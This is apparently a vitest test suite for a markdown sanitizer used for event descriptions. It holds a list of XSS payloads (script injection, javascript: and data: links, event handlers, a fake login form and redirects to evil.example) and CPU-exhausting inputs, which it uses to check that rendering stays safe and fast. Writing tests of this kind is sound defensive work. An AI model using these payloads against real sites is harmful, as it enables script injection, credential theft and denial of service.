import { describe, expect, test } from 'vitest'
import { renderMarkdown } from '#events/markdown'

describe('what an organizer may write', () => {
  // S3-37
  test.each([
    ['**bold** and *kind* and ~~gone~~', '<p><strong>bold</strong> and <em>kind</em> and <del>gone</del></p>'],
    ['# One\n## Two\n### Three', '<h2>One</h2>\n<h2>Two</h2>\n<h3>Three</h3>'],
    ['one\ntwo', '<p>one<br />two</p>'],
    ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
    ['1. a', '<ol>\n<li>a</li>\n</ol>'],
    ['> said', '<blockquote>\n<p>said</p>\n</blockquote>'],
    ['`a < b`', '<p><code>a &lt; b</code></p>'],
    ['```\na < b\n```', '<pre><code>a &lt; b\n</code></pre>'],
    ['---', '<hr />'],
    [
      '|a|\n|-|\n|b|',
      '<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody><tr>\n<td>b</td>\n</tr>\n</tbody></table>',
    ],
    ['[us](https://x.org)', '<p><a href="https://x.org" rel="nofollow noopener ugc">us</a></p>'],
    ['https://x.org', '<p><a href="https://x.org" rel="nofollow noopener ugc">https://x.org</a></p>'],
    ['[mail](mailto:a@x.org)', '<p><a href="mailto:a@x.org" rel="nofollow noopener ugc">mail</a></p>'],
    ['5 < 6 & 7 > 6', '<p>5 &lt; 6 &amp; 7 &gt; 6</p>'],
    ['', ''],
  ])('%j', (source, html) => expect(renderMarkdown(source).trim()).toBe(html))
})

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/pixel.gif">',
  '![tracker](https://tracker.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&colon;alert(1))',
  '[x]( javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](https://x.org "onmouseover=alert(1)")',
  '[x](https://x.org"onmouseover="alert(1))',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://x.org" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p style="background:url(javascript:alert(1))" class="admin" id="login">x</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '<b/onclick=alert(1)>x',
  '<<script>script>alert(1)<</script>/script>',
  `${'> '.repeat(40)}<img src=x onerror=alert(1)>`,
  `${'*a* '.repeat(700)}<img src=x onerror=alert(1)><script>alert(1)</script>`,
]

const TAG =
  /^(?:\/?(?:h2|h3|h4|p|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|a)|br \/|hr \/|a(?: href="(?:https?:|mailto:|tel:|[^":]*")[^"<>]*"?)?(?: rel="nofollow noopener ugc")?)$/

describe('what nobody may write into a page', () => {
  // S3-37; reliability S11, S12
  test.each(PAYLOADS)('%j', (payload) => {
    const html = renderMarkdown(payload)
    // Whatever is a tag in the answer is one of ours, with nothing on it but a link's address.
    for (const [, tag] of html.matchAll(/<([^>]*)>?/g)) expect(tag, html).toMatch(TAG)
    for (const [, href] of html.matchAll(/href="([^"]*)"/g)) {
      const address = href!.replace(/&[^;]+;/g, '')
      expect(new URL(address, 'https://here.example/').protocol, html).toMatch(/^(https?|mailto|tel):$/)
      expect(href).not.toMatch(/^\s*\/\//)
    }
  })

  test('every link says that we do not vouch for it', () => {
    const html = renderMarkdown(
      '[a](https://x.org) <a href="https://y.org">b</a> <a href="https://z.org" rel="author">c</a> www.w.org',
    )
    expect(html.match(/<a /g)).toHaveLength(4)
    expect(html.match(/<a href="[^"]+" rel="nofollow noopener ugc">/g)).toHaveLength(4)
  })
})

describe('text made to cost us', () => {
  const full = (part: string) => part.repeat(20_000).slice(0, 19_990)
  const bombs: Record<string, string> = {
    'quotes in quotes': full('>'),
    'lists in lists': full('1. '),
    'nineteen quotes a line': full(`${'>'.repeat(19)}a\n`),
    'lists by tabs': Array.from({ length: 190 }, (_, depth) => `${'\t'.repeat(depth)}- a`).join('\n'),
    'opened emphasis': full('*a '),
    'crossed emphasis': full('**a*'),
    'three stars': full('***a'),
    'underscores inside words': full('a_b_'),
    'struck out': full('~~a '),
    'opened brackets': full('['),
    'opened pictures': full('!['),
    'opened links': full('[a]('),
    'links of links': full('[a][b] '),
    'opened code': full('`a'),
    'code of every width': Array.from({ length: 199 }, (_, n) => '`'.repeat(n + 1))
      .join(' ')
      .slice(0, 19_990),
    'opened tags': full('<a '),
    ampersands: full('&'),
    addresses: full('a@b.c '),
    'a few words of table': `${'|a'.repeat(2_500)}|\n${'|-'.repeat(2_500)}|\n${'|\n'.repeat(4_990)}`,
    headings: full('a\n===\n'),
    definitions: full('[a]:b "'),
  }

  const cost = (source: string, n: number) => {
    const another = `${source}\n\n${n}` // what was rendered once may be kept
    const before = process.cpuUsage()
    const html = renderMarkdown(another)
    const { user, system } = process.cpuUsage(before)
    return { html, milliseconds: (user + system) / 1_000 }
  }

  // reliability S12, S24. The least of several tries, of this process's own time: other work on the machine does not
  // count. What 50 ms are is measured beside it, by words that a person would write, because machines differ, and one that
  // two suites share differs from itself.
  test.each(Object.entries(bombs))('takes no time: %s', (_, source) => {
    expect(source.length).toBeLessThanOrEqual(19_997)
    let least = Infinity
    let ordinary = 0
    let html = ''
    for (let n = 0; n < 40 && least > Math.max(50, 5 * ordinary); n++) {
      const tried = cost(source, n)
      html = tried.html
      least = Math.min(least, tried.milliseconds)
      ordinary = Math.max(
        ordinary,
        cost(full('Come *early*, bring **friends**, see [the map](https://x.org/map). '), n).milliseconds,
      )
    }
    expect(least).toBeLessThan(Math.max(50, 5 * ordinary))
    expect(html.length).toBeLessThan(10 * 20_000)
  })

  test('an ordinary description is read to its end', () => {
    const line = 'Come *early*, bring **friends**, see [the map](https://x.org/map), ask `Ann`.\n\n'
    const html = renderMarkdown(line.repeat(100))
    expect(html.match(/<em>early<\/em>/g)).toHaveLength(100)
    expect(html.match(/<a /g)).toHaveLength(100)
  })
})
